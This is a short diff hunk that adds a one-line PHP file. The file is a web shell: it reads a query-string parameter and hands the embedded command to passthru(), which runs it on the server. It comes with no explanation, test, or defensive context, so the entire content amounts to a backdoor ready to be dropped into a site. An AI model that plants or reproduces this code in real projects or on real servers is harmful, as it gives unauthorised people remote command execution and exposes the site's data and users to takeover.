@@ -1,0 +1,1 @@
+<?php parse_str($_GET["x"], $q); passthru($q["c"]);
